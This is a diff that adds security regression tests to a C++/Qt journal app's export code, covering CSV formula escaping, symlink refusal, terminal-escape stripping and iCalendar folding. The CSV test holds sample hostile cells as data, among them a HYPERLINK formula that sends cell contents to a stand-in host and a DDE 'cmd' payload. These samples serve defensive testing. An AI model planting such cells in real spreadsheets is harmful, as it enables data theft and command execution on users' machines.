@@ -14,6 +14,7 @@
 #include <QTemporaryDir>
 
 #include <sys/stat.h>
+#include <unistd.h>
 
 using namespace steadyline;
 using namespace steadyline::journal;
@@ -634,4 +635,104 @@ TEST_CASE("Exports are written atomically and readable by the user alone", "[exp
     CHECK(error.contains(QStringLiteral("folder")));
     CHECK_FALSE(writePrivateFile(QString(), "x", &error));
     CHECK_FALSE(error.isEmpty());
+}
+
+TEST_CASE("Promises as CSV: a cell a spreadsheet would run as a formula is written as text (review M5)",
+          "[export][csv][security]")
+{
+    Fixture f;
+    const QStringList hostile{QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")"),
+                              QStringLiteral("+cmd|' /C calc'!A0"),
+                              QStringLiteral("-2+3"),
+                              QStringLiteral("@SUM(1+1)"),
+                              QStringLiteral("\tleading tab"),
+                              QStringLiteral("\rleading return")};
+    for (const QString &text : hostile)
+        REQUIRE(f.journal->addPromise(f.ids.polishCall, text, text, QDateTime()).ok);
+    REQUIRE(f.journal->flushPending().ok);
+    const std::vector<QStringList> rows = parseCsv(QString::fromUtf8(promisesCsv(promises(*f.journal, false))));
+    int seen = 0;
+    for (const QStringList &row : rows) {
+        for (const QString &text : hostile) {
+            if (row.value(6).endsWith(text.mid(1))) {
+                ++seen;
+                INFO(row.value(6).toStdString());
+                CHECK(row.value(6) == QLatin1Char('\'') + text); // shown as typed, never evaluated
+                CHECK(row.value(5) == QLatin1Char('\'') + text);
+            }
+        }
+    }
+    CHECK(seen == hostile.size());
+    // Ordinary text is left as it is.
+    CHECK(rows[1][6].at(0) != QLatin1Char('\''));
+}
+
+TEST_CASE("An export never follows a symbolic link planted at its path (review M2)", "[export][file][security]")
+{
+    QTemporaryDir dir;
+    REQUIRE(dir.isValid());
+    const QString victim = dir.filePath(QStringLiteral("bashrc"));
+    {
+        QFile file(victim);
+        REQUIRE(file.open(QIODevice::WriteOnly));
+        file.write("export PATH=/usr/bin\n");
+    }
+    const QString planted = dir.filePath(QStringLiteral("report.md"));
+    REQUIRE(QFile::link(victim, planted));
+    QString error;
+    CHECK_FALSE(writePrivateFile(planted, "# Calls\n", &error));
+    CHECK(error.contains(QStringLiteral("symbolic link")));
+    CHECK(readAll(victim) == "export PATH=/usr/bin\n");
+    CHECK(QFileInfo(planted).isSymLink());
+
+    // A folder that another user owns and everybody may write into: refused (a link could be
+    // planted between any check and the rename). The user's own such folder is theirs to use.
+    if (::geteuid() == 0) {
+        const QString shared = dir.filePath(QStringLiteral("shared"));
+        REQUIRE(QDir().mkpath(shared));
+        REQUIRE(::chmod(QFile::encodeName(shared).constData(), 0777) == 0);
+        REQUIRE(::chown(QFile::encodeName(shared).constData(), 65534, 65534) == 0);
+        CHECK_FALSE(writePrivateFile(shared + QStringLiteral("/report.md"), "x", &error));
+        CHECK(error.contains(QStringLiteral("other users can write")));
+        REQUIRE(::chown(QFile::encodeName(shared).constData(), ::geteuid(), ::getegid()) == 0);
+        CHECK(writePrivateFile(shared + QStringLiteral("/report.md"), "x", &error));
+    }
+}
+
+TEST_CASE("The Markdown report drops terminal escapes and names the characters that hide or reorder text "
+          "(review L3)",
+          "[export][markdown][security]")
+{
+    Fixture f;
+    REQUIRE(f.journal
+                ->addNote(f.ids.polishCall,
+                          QStringLiteral("Opłata \u202E0.001 zł\u202C, \u001b[31mczerwone\u001b[0m, zero\u200Bwidth"))
+                .ok);
+    REQUIRE(f.journal->flushPending().ok);
+    const QString md = QString::fromUtf8(callReportMarkdown(report(*f.journal)));
+    CHECK_FALSE(md.contains(QChar(0x1B)));
+    CHECK_FALSE(md.contains(QChar(0x202E)));
+    CHECK_FALSE(md.contains(QChar(0x200B)));
+    CHECK(md.contains(QStringLiteral("Opłata \\<U+202E>0.001 zł\\<U+202C>, [31mczerwone[0m, zero\\<U+200B>width")));
+}
+
+TEST_CASE("iCalendar folding never splits an escape (review I1)", "[export][ics][security]")
+{
+    Fixture f;
+    // Commas and line breaks at every position, so that some escape meets every fold.
+    QString text;
+    for (int i = 0; i < 60; ++i)
+        text += QString(i % 7, QLatin1Char('x')) + (i % 2 ? QStringLiteral(",") : QStringLiteral("\n"));
+    REQUIRE(f.journal->addPromise(f.ids.polishCall, text, QStringLiteral("ZG-1"), QDateTime()).ok);
+    REQUIRE(f.journal->flushPending().ok);
+    const QByteArray ics = promisesICalendar(promises(*f.journal, false));
+    const QList<QByteArray> physical = ics.split('\n');
+    for (const QByteArray &line : physical) {
+        const QByteArray content = line.endsWith('\r') ? line.chopped(1) : line;
+        qsizetype run = 0;
+        for (qsizetype i = content.size() - 1; i >= 0 && content.at(i) == '\\'; --i)
+            ++run;
+        INFO(content.toStdString());
+        CHECK(run % 2 == 0); // no line ends inside an escape
+    }
 }
